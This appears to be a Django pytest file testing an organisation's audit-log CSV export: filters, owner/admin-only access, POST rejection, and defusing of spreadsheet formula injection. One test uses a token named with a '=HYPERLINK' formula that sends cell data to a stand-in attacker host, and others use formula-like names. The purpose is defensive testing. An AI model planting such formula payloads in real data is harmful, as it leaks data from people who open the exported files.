"""The audit page exports what it shows as CSV, filters included, to owners and admins only."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from orgs.audit import audit_record
from orgs.services import api_token_create

pytestmark = pytest.mark.django_db


def _rows(response):
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_export_holds_every_event_with_who_what_and_the_request_id(world, login):
    audit_record(org=world.org, verb="node.created", actor=world.owner, changes={"address": "127.0.0.5"},
                 ip="127.0.0.9")
    audit_record(org=world.other_org, verb="node.created", actor=world.outsider)
    response = login(world.admin).get(reverse("orgs:audit_export", args=["acme"]))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="audit-acme-' in response["Content-Disposition"]
    rows = [r for r in _rows(response) if r["verb"] == "node.created"]
    assert len(rows) == 1
    assert rows[0]["actor"] == world.owner.username and rows[0]["ip"] == "127.0.0.9"
    assert '"address": "127.0.0.5"' in rows[0]["changes"]


def test_the_export_applies_the_pages_filters(world, login):
    audit_record(org=world.org, verb="finding.triaged", actor=world.owner)
    audit_record(org=world.org, verb="node.created", actor=world.owner)
    response = login(world.owner).get(reverse("orgs:audit_export", args=["acme"]) + "?verb=finding.")
    assert {r["verb"] for r in _rows(response)} == {"finding.triaged"}


def test_a_target_that_looks_like_a_formula_is_defused(world, login):
    audit_record(org=world.org, verb="node.created", target=world.org)
    world.org.name = "=HYPERLINK(\"x\")"
    audit_record(org=world.org, verb="organization.renamed", target=world.org)
    rows = _rows(login(world.owner).get(reverse("orgs:audit_export", args=["acme"])))
    assert any(r["target"].startswith("'=") for r in rows)


def test_analysts_and_viewers_cannot_export(world, login):
    assert login(world.analyst).get(reverse("orgs:audit_export", args=["acme"])).status_code == 403
    assert login(world.viewer).get(reverse("orgs:audit_export", args=["acme"])).status_code == 403


def test_another_organization_gets_404_and_anonymous_goes_to_login(world, login):
    assert login(world.outsider).get(reverse("orgs:audit_export", args=["acme"])).status_code == 404
    response = Client().get(reverse("orgs:audit_export", args=["acme"]))
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_the_export_refuses_post(world, login):
    assert login(world.owner).post(reverse("orgs:audit_export", args=["acme"])).status_code == 405


def test_the_audit_page_links_the_export_with_its_filters(world, login):
    content = login(world.owner).get(reverse("orgs:audit", args=["acme"]) + "?verb=node.").content.decode()
    assert "/o/acme/audit/export.csv?verb=node." in content


def test_a_token_named_like_a_formula_lands_in_the_export_as_text(world, login):
    token, _ = api_token_create(org=world.org, name='=HYPERLINK("http://evil.invalid/?"&A1,"click")',
                                access="read", by=world.owner)
    audit_record(org=world.org, verb="node.created", token=token)
    rows = _rows(login(world.owner).get(reverse("orgs:audit_export", args=["acme"])))
    row = next(r for r in rows if r["verb"] == "node.created")
    assert row["token"].startswith("'=HYPERLINK(")


def test_an_actor_whose_username_reads_as_a_formula_lands_in_the_export_as_text(world, login):
    world.analyst.username = "@SUM(1+1)"
    world.analyst.save(update_fields=["username"])
    audit_record(org=world.org, verb="finding.triaged", actor=world.analyst)
    rows = _rows(login(world.owner).get(reverse("orgs:audit_export", args=["acme"])))
    assert next(r for r in rows if r["verb"] == "finding.triaged")["actor"] == "'@SUM(1+1)"
